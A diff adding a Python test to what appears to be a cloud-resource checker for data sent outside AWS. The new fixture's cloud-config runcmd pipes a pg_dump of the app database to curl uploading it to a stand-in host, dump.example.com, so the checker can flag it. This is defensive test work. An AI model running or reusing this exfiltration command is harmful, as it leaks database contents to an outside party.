@@ -321,3 +321,18 @@ def test_the_tags_an_instance_gives_its_volumes_name_no_place_it_sends_to() -> N
     resource.props["volumeTags"] = {"owner": "dpo@acme-corp.com", "runbook": "wiki.acme-corp.com/volumes"}
     found = _found(region, extra, resource)
     assert found == [], messages(found)
+
+
+def test_a_cloud_config_list_item_running_a_shell_script_is_read_as_that_script() -> None:
+    # `- [ sh, -c, "..." ]`: the script is one word, read as a script by the one reader of command lines.
+    region = eu_region()
+    extra = _reader(region)
+    script = (
+        "#cloud-config\nruncmd:\n"
+        f'  - [ sh, -c, "pg_dump -h {DB_HOST} -U app app | curl -T - https://dump.example.com/in" ]\n'
+    )
+    resource = _instance(region, extra[2], userData=script)
+    found = _found(region, extra, resource)
+    assert "https://dump.example.com/in" in messages(found) and "outside AWS" in messages(found), messages(
+        found
+    )
